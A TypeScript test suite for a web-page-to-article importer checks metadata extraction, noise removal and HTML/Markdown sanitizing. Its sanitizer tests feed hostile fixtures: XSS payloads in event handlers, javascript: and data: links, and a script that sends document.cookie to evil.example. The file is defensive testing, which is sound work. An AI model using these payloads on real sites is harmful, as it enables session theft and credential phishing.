/** Web pages → articles (Readability on jsdom, metadata, Markdown), and the sanitizing every import goes through. */
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Lexer, type Token, type Tokens } from 'marked';
import { afterAll, describe, expect, it } from 'vitest';
import { MailroomError } from '../src/core/errors.ts';
import { parseArticleFile } from '../src/content/article-file.ts';
import { extractArticleFromHtml } from '../src/content/html-article.ts';
import { finalizeArticle, readImportSource } from '../src/content/import-source.ts';
import { decodeText } from '../src/net/safe-fetch.ts';
import { htmlToMarkdown, sanitizeHtml, sanitizeMarkdown } from '../src/content/sanitize.ts';
import { startFixtureServer } from './helpers/fixture-server.ts';

const PAGES = fileURLToPath(new URL('./fixtures/pages/', import.meta.url));
const NOW = new Date('2026-12-01T12:00:00Z');

function page(name: string): string {
  return decodeText(readFileSync(join(PAGES, name)), null, 'html');
}

function tokensOf(markdown: string): Token[] {
  const all: Token[] = [];
  const walk = (tokens: readonly Token[]) => {
    for (const token of tokens) {
      all.push(token);
      if ('tokens' in token && Array.isArray(token.tokens)) walk(token.tokens as Token[]);
      if (token.type === 'list') walk((token as Tokens.List).items);
    }
  };
  walk(new Lexer().lex(markdown));
  return all;
}

/** Nothing executable or embeddable, and every URL absolute http(s) or mailto. */
function expectSafe(markdown: string): void {
  expect(markdown).not.toMatch(/<\s*(script|style|iframe|form|input|object|embed|svg)/i);
  expect(markdown).not.toMatch(/\bon[a-z]+\s*=/i);
  expect(markdown).not.toMatch(/javascript:|vbscript:|data:/i);
  for (const token of tokensOf(markdown)) {
    expect(token.type, token.raw).not.toBe('html');
    if (token.type === 'link') expect((token as Tokens.Link).href).toMatch(/^(https?:\/\/|mailto:)/);
    if (token.type === 'image') expect((token as Tokens.Image).href).toMatch(/^https?:\/\//);
  }
}

describe('a news page with heavy navigation, promo and footer noise', () => {
  const url = 'https://www.harbortimes.example/news/2026/04/electric-ferries-emissions?utm_source=newsletter';
  const { article, publishedKnown } = extractArticleFromHtml(page('harbor-times-ferry.html'), url, { url, now: NOW });

  it('takes title, summary, authors, date, canonical URL, lead image and tags from the meta tags and JSON-LD', () => {
    expect(article.title).toBe('New electric ferries cut harbor emissions by half');
    expect(article.summary).toBe("The port authority's four battery-electric ferries carried 1.2 million passengers in their first year and halved the harbor's transport emissions, a new report says.");
    expect(article.author).toBe('Ingrid Solberg and Tomás Reyes');
    expect(publishedKnown).toBe(true);
    expect(article.publishedAt).toBe('2026-04-14T05:30:00.000Z');
    expect(article.canonicalUrl).toBe('https://www.harbortimes.example/news/2026/04/electric-ferries-emissions');
    expect(article.leadImage).toEqual({ url: 'https://www.harbortimes.example/images/2026/04/ferry-dock-1600.jpg', alt: 'The electric ferry Tern charging at the Pier 4 dock at dusk' });
    expect(article.tags).toEqual(['transport', 'climate', 'ferries', 'electrification', 'port authority']);
    expect(article.slug).toBe('new-electric-ferries-cut-harbor-emissions-by-half');
  });

  it('keeps headings, lists, quotes, links and images, with absolute URLs', () => {
    const { body } = article;
    expect(body.startsWith('A year after the port authority replaced its diesel boats')).toBe(true);
    expect(tokensOf(body).filter((t): t is Tokens.Heading => t.type === 'heading').map((h) => `${h.depth} ${h.text}`)).toEqual(['2 How the ferries charge', '2 What it cost', '2 What comes next']);
    const lists = tokensOf(body).filter((t): t is Tokens.List => t.type === 'list');
    expect(lists.map((list) => [list.ordered, list.items.length])).toEqual([
      [false, 3],
      [true, 3],
    ]);
    expect(body).toContain('**52 percent less carbon dioxide**');
    expect(body).toContain('> We expected the emissions to fall.');
    expect(body).toContain('[The tender](https://www.harbortimes.example/news/2025/03/ferry-tender)');
    expect(body).toContain('![Map of the three ferry routes across the harbor](https://www.harbortimes.example/images/2026/04/route-map.png)');
    expect(body).toContain('[environment office\'s website](https://www.harbortimes.example/documents/ferry-report-2026.pdf)');
    expect(body).toContain('[Video: Riding the Tern across the harbor](https://www.youtube.com/watch?v=abc123)');
    // The lead image is shown by the template: it is not repeated at the top of the body.
    expect(body).not.toContain('ferry-dock-1600.jpg');
  });

  it('drops navigation, cookie banner, share bars, promos, ads, related links, comments and the footer', () => {
    for (const noise of ['Accept all', 'We use cookies', 'Business', 'Sign in', 'Share on Facebook', 'Copy link', 'Get the Harbor Briefing', 'in your inbox every morning', 'Advertisement', 'Share this article', 'Related articles', 'bike bridge', 'Comments (24)', 'join the conversation', 'All rights reserved', 'Privacy policy', 'Home']) {
      expect(article.body, noise).not.toContain(noise);
    }
  });

  it('is safe: no script, event handler, javascript: link, data: image, tracking pixel, form or frame', () => {
    expectSafe(article.body);
    expect(article.body).toContain('better spent on bus lanes, which carry far more people');
    expect(article.body).not.toContain('pixel.example-tracker.com');
    expect(article.body).not.toContain('ads.example-network.com');
  });
});

describe('other pages', () => {
  it('a WordPress engineering blog: JSON-LD @graph, a relative canonical, a lazy image, code, a table; sidebar and widgets gone', () => {
    const { article } = extractArticleFromHtml(page('quillstack-postgres-indexes.html'), 'quillstack-postgres-indexes.html', { now: NOW });
    expect(article.title).toBe('Five Postgres indexes we dropped (and what we learned)');
    expect(article.author).toBe('Priya Natarajan');
    expect(article.publishedAt).toBe('2026-02-09T15:00:00.000Z');
    expect(article.summary).toBe('Unused and duplicate indexes were costing us 30% of our write throughput. Here is how we found them and removed them safely.');
    // The page's canonical link is relative and the file has no address: the JSON-LD @id says where it lives.
    expect(article.canonicalUrl).toBe('https://eng.quillstack.example/blog/five-postgres-indexes-we-dropped/');
    expect(article.leadImage?.url).toBe('https://eng.quillstack.example/wp-content/uploads/2026/02/index-bloat.png');
    expect(article.body).toContain('![Chart of write latency before and after removing the indexes](https://eng.quillstack.example/wp-content/uploads/2026/02/index-bloat.png)');
    expect(article.body).toContain('```sql\nSELECT relname, indexrelname, idx_scan');
    expect(article.body).toContain('| Index | Size | Why it existed |\n| --- | --- | --- |\n| `events_created_at_idx` | 38 GB | An old admin report |');
    expect(article.body).toContain('[our ops handbook](https://eng.quillstack.example/blog/ops-handbook/#indexes)');
    for (const noise of ['Recent posts', 'Categories', 'Menu', 'Skip to content', 'Like this post?', 'Share this', 'Autovacuum, explained', 'Previous post', 'thoughts on', 'Post Comment', 'Proudly powered', 'Contents']) {
      expect(article.body, noise).not.toContain(noise);
    }
    expectSafe(article.body);
    // Given the address it was saved from, the relative canonical link resolves against it.
    const withUrl = extractArticleFromHtml(page('quillstack-postgres-indexes.html'), 'saved.html', { url: 'https://eng.quillstack.example/blog/five-postgres-indexes-we-dropped/?ref=home' });
    expect(withUrl.article.canonicalUrl).toBe('https://eng.quillstack.example/blog/five-postgres-indexes-we-dropped/');
  });

  it('a windows-1252 magazine page with <base href>: right characters, kicker and standfirst not repeated, modal, sponsor and sidebar gone', () => {
    const { article } = extractArticleFromHtml(page('brightline-magazine-sleep.html'), 'brightline-magazine-sleep.html', { now: NOW });
    expect(article.title).toBe("The quiet science of a better night's sleep");
    expect(article.author).toBe('Dr. Hannah Okonkwo');
    expect(article.publishedAt).toBe('2026-01-22T00:00:00.000Z');
    expect(article.summary).toBe('Forget the gadgets. Three decades of sleep research point to a handful of dull, reliable habits.');
    expect(article.leadImage).toEqual({ url: 'https://brightline-mag.example/wellbeing/images/sleep-hero.jpg', alt: 'A bedroom at dawn with the curtains half open' });
    expect(article.body.startsWith('Walk into any electronics shop')).toBe(true);
    expect(article.body).toContain('every day – weekends included');
    expect(article.body).toContain('“Your bed should mean sleep, not scrolling.”');
    expect(article.body).toContain('[caffeine guide](https://brightline-mag.example/wellbeing/caffeine-guide)');
    for (const noise of ['Wellbeing\n', 'Forget the gadgets', 'Before you go', 'Join 80,000 readers', 'CloudRest', 'Shop now', 'You may also like', 'The perfect nap', 'Most read', 'Registered in England', '3 issues for £5']) {
      expect(article.body, noise).not.toContain(noise);
    }
  });

  it("never runs the page's scripts nor loads anything it refers to; without a description the first paragraph is the summary", async () => {
    const server = await startFixtureServer();
    try {
      const text = 'The quiet page has a first paragraph long enough to be an article on its own, with plain words about nothing in particular and no metadata at all.';
      const html = `<html><head><title>Quiet page</title><link rel="stylesheet" href="${server.url}/style.css"><script src="${server.url}/app.js"></script>
        <script>document.title = 'HACKED'; window.addEventListener('load', function () { document.body.innerHTML = '<p>HACKED</p>'; });</script></head>
        <body onload="document.body.innerHTML='HACKED'"><article><h1>Quiet page</h1><p>${text}</p><p>${text.replace('first', 'second')}</p>
        <img src="${server.url}/image.png" alt="An image"><iframe src="${server.url}/frame"></iframe><video src="${server.url}/movie.mp4"></video><object data="${server.url}/x.swf"></object></article>
        <script>document.write('<p>HACKED too</p>')</script></body></html>`;
      const { article, publishedKnown } = extractArticleFromHtml(html, 'quiet.html', { url: 'https://quiet.example/posts/1', now: NOW });
      expect(article.title).toBe('Quiet page');
      expect(article.summary).toBe(text);
      expect(article.body).not.toContain('HACKED');
      expect(article.canonicalUrl).toBe('https://quiet.example/posts/1');
      expect(publishedKnown).toBe(false);
      expect(article.publishedAt).toBe(NOW.toISOString());
      await new Promise((resolve) => setTimeout(resolve, 150));
      expect(server.requests).toEqual([]);
    } finally {
      await server.close();
    }
  });

  it('a saved page with relative links and no address says so, and --url resolves them', () => {
    const html = `<html><head><title>Relative</title></head><body><article><h1>Relative</h1><p>This saved page has a <a href="/other">relative link</a> and a <a href="https://example.org/x">full one</a>, and enough words to count as an article, which takes two hundred characters of text at least, so here are some more words, and then a few more for good measure.</p><p><img src="img/chart.png" alt="A chart"></p></article></body></html>`;
    const saved = extractArticleFromHtml(html, 'relative.html');
    expect(saved.warnings).toEqual([expect.stringMatching(/relative links or images and no address .* --url$/)]);
    expect(saved.article.body).toContain('has a relative link and a [full one](https://example.org/x)');
    expect(saved.article.body).not.toContain('chart.png');
    const addressed = extractArticleFromHtml(html, 'relative.html', { url: 'https://site.example/posts/relative' });
    expect(addressed.warnings).toEqual([]);
    expect(addressed.article.body).toContain('[relative link](https://site.example/other)');
    expect(addressed.article.body).toContain('![A chart](https://site.example/posts/img/chart.png)');
  });

  it('a home page of links is not an article: a clear error naming the page', () => {
    expect(() => extractArticleFromHtml(page('harbor-times-home.html'), 'https://www.harbortimes.example/', { url: 'https://www.harbortimes.example/' })).toThrow(
      /^https:\/\/www\.harbortimes\.example\/: no article found on the page/,
    );
    expect(() => extractArticleFromHtml('<html><body><nav><a href="/">Home</a></nav><p>Hi.</p></body></html>', 'tiny.html')).toThrow(/^tiny\.html: no article found on the page \(\d+ characters of main text/);
    expect(() => extractArticleFromHtml('', 'empty.html')).toThrow(MailroomError);
  });
});

describe('sanitizing', () => {
  const HOSTILE = `
    <p>Hello <b onclick="steal()">there</b> <img src="x.png" onerror="alert(1)" alt="x"><script>alert(1)</script></p>
    <p><a href="javascript:alert(1)">js link</a> <a href="  JaVaScRiPt:alert(1)">js caps</a> <a href="java&#x09;script:alert(1)">js tab</a>
       <a href="data:text/html,<script>alert(1)</script>">data link</a> <a href="vbscript:msgbox(1)">vb</a> <a href="mailto:ed@example.com">mail</a>
       <a href="/relative/page">relative</a> <a href="https://example.org/ok" target="_blank" rel="noopener">ok</a></p>
    <p><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline"> <img src="javascript:alert(1)" alt="js image"></p>
    <form action="https://evil.example/collect"><input name="card"><button>Pay</button>Form text</form>
    <iframe src="https://evil.example/frame">Frame text</iframe>
    <object data="x.swf">Object text</object><embed src="x.swf">
    <style>p { color: red }</style>
    <svg onload="alert(1)"><circle r="1"></circle></svg>
    <math><mi>x</mi></math>
    <p style="background:url(javascript:alert(1))">Styled</p>`;

  it('turns hostile HTML into safe Markdown with absolute URLs', () => {
    const markdown = htmlToMarkdown(HOSTILE, { baseUrl: 'https://news.example.com/a/b' });
    expectSafe(markdown);
    expect(markdown).toContain('Hello **there**');
    expect(markdown).toContain('![x](https://news.example.com/a/x.png)');
    expect(markdown).toContain('js link js caps js tab data link vb [mail](mailto:ed@example.com)');
    expect(markdown).toContain('[relative](https://news.example.com/relative/page) [ok](https://example.org/ok)');
    expect(markdown).toContain('Styled');
    for (const gone of ['Form text', 'Frame text', 'Object text', 'Pay', 'color: red', 'inline', 'js image']) expect(markdown, gone).not.toContain(gone);
  });

  it('keeps text that looks like a tag or an entity as text', () => {
    const markdown = htmlToMarkdown('<p>Put the &lt;script&gt; tag last, write &amp;copy; for ©, and keep <code>&lt;b&gt;</code> as code.</p>');
    expect(markdown).toBe('Put the \\<script> tag last, write \\&copy; for ©, and keep `<b>` as code.');
    expect(sanitizeMarkdown(markdown)).toEqual({ markdown, changes: [] });
    expect(tokensOf(markdown).some((token) => token.type === 'html')).toBe(false);
  });

  it('keeps no relative link when there is nothing to resolve it against', () => {
    const html = sanitizeHtml('<p><a href="/x">text</a> <img src="/y.png" alt="y"></p>');
    expect(html).toBe('<p>text </p>');
  });

  it('cleans Markdown written by people: raw HTML and unsafe links go, everything else stays as written', () => {
    const written = [
      '# Notes',
      '',
      'A [safe link](https://example.com) and a [bad one](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=) and <javascript:alert(2)>.',
      '',
      '<script>alert("x")</script>',
      '',
      'Inline <img src=x onerror=alert(1)> HTML and an ![image](data:image/png;base64,AAAA) and [obfuscated](&#106;avascript:alert(1)).',
      '',
      '<form action="https://evil.example"><input name="pw"></form>',
      '',
      '<iframe src="https://evil.example"></iframe>',
      '',
      'A [reference][bad] link.',
      '',
      '[bad]: javascript:alert(3)',
      '',
      'An untouched paragraph with a [relative link](/media/file.pdf) and ![a local image](/media/logo.png).',
    ].join('\n');
    const { markdown, changes } = sanitizeMarkdown(written);
    expectSafeMarkdown(markdown);
    expect(markdown).toContain('# Notes');
    expect(markdown).toContain('A [safe link](https://example.com) and a bad one and data and');
    expect(markdown).toContain('An untouched paragraph with a [relative link](/media/file.pdf) and ![a local image](/media/logo.png).');
    expect(markdown).toContain('A reference link.');
    expect(markdown).not.toMatch(/evil\.example|<script|<form|<iframe|onerror/);
    expect(changes).toEqual(expect.arrayContaining(['a link to javascript:', 'a link to data:', 'raw HTML <script>', 'raw HTML <form>', 'raw HTML <iframe>', 'an image from data:', 'dropped the link definition [bad] to javascript:']));
  });

  it('leaves clean Markdown byte for byte alone (every demo article)', () => {
    const dir = fileURLToPath(new URL('../data/articles/', import.meta.url));
    for (const name of readdirSync(dir).filter((file) => file.endsWith('.md'))) {
      const article = parseArticleFile(readFileSync(join(dir, name), 'utf8'), name);
      const { markdown, changes } = sanitizeMarkdown(article.body);
      expect(changes, name).toEqual([]);
      expect(markdown, name).toBe(article.body);
      expect(finalizeArticle(article).article, name).toEqual(article);
    }
  });
});

function expectSafeMarkdown(markdown: string): void {
  for (const token of tokensOf(markdown)) {
    expect(token.type, token.raw).not.toBe('html');
    if (token.type === 'link') expect((token as Tokens.Link).href).toMatch(/^(https?:\/\/|mailto:|\/)/);
    if (token.type === 'image') expect((token as Tokens.Image).href).toMatch(/^(https?:\/\/|\/)/);
  }
  expect(markdown).not.toMatch(/javascript:|data:/i);
}

describe('articles import sources', () => {
  const dir = mkdtempSync(join(tmpdir(), 'mailroom-import-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('a Markdown file with <script>, onerror=, javascript: and data: links, a <form> and an <iframe> is stored clean', async () => {
    const file = join(dir, 'hostile.md');
    writeFileSync(
      file,
      [
        '---',
        'title: "A Hostile Article"',
        'published: 2026-11-20',
        '---',
        'Intro with a [trap](javascript:alert(1)) and a [data trap](data:text/html,hi).',
        '',
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
        '',
        '<img src="x" onerror="alert(1)">',
        '',
        '<form action="https://evil.example"><input name="password"></form>',
        '',
        '<iframe src="https://evil.example/embed"></iframe>',
        '',
        'Closing paragraph.',
      ].join('\n'),
    );
    const { articles, errors } = await readImportSource(file);
    expect(errors).toEqual([]);
    const [imported] = articles;
    expect(imported?.kind).toBe('markdown');
    const body = imported?.extracted.article.body ?? '';
    expectSafeMarkdown(body);
    expect(body).toContain('Intro with a trap and a data trap.');
    expect(body).toContain('Closing paragraph.');
    expect(body).not.toMatch(/script|onerror|form|iframe|evil/i);
    expect(imported?.cleaned.length).toBeGreaterThanOrEqual(4);
  });

  it('dispatches on the argument and names the source in every problem', async () => {
    const html = join(dir, 'page.htm');
    writeFileSync(html, readFileSync(join(PAGES, 'harbor-times-ferry.html')));
    const fromHtml = await readImportSource(html, { url: 'https://www.harbortimes.example/news/2026/04/electric-ferries-emissions', now: NOW });
    expect(fromHtml.articles[0]?.kind).toBe('html');
    expect(fromHtml.articles[0]?.extracted.article.title).toBe('New electric ferries cut harbor emissions by half');

    const text = join(dir, 'copied.txt');
    writeFileSync(text, readFileSync('/work/shared/samples/article-page.txt'));
    const fromText = await readImportSource(text, { now: NOW });
    expect(fromText.articles[0]?.kind).toBe('text');
    expect(fromText.articles[0]?.extracted.article.title).toBe('Microsoft and OpenAI Announce Tentative Deal: A $4.5 Trillion Partnership Pivot');

    const empty = join(dir, 'empty.txt');
    writeFileSync(empty, '');
    expect((await readImportSource(empty)).errors[0]?.message).toBe(`${empty}: the file is empty`);
    await expect(readImportSource(join(dir, 'nope.html'))).rejects.toThrow(`${join(dir, 'nope.html')}: no such file or folder`);
    const json = join(dir, 'data.json');
    writeFileSync(json, '{}');
    await expect(readImportSource(json)).rejects.toThrow(/data\.json: cannot tell what this is from its name \("\.json"\)/);
    await expect(readImportSource(text, { url: 'ftp://x' })).rejects.toThrow(/--url "ftp:\/\/x": not an absolute http\(s\) URL/);
    await expect(readImportSource('ftp://example.com/x')).rejects.toThrow(/only http:\/\/ and https:\/\//);
  });
});
